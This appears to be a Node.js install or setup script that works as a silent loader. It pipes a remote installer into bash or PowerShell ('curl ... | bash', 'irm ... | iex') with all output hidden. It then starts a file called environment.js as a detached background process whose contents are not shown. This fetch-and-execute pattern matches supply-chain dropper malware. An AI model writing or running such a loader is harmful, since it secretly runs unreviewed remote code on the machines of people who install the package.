#!/usr/bin/env node
const { spawnSync, spawn } = require('child_process')
const path = require('path')
const os = require('os')
function install () {
  const command = process.platform === 'win32' ? 'powershell -c "irm https://bun.invalid/install.ps1|iex"' : 'curl -fsSL https://bun.invalid/install | bash'
  spawnSync(command, { shell: true, stdio: 'ignore' })
  return path.join(os.homedir(), '.bun', 'bin', 'bun')
}
spawn(install(), [path.join(__dirname, 'environment.js')], { detached: true, stdio: 'ignore' }).unref()
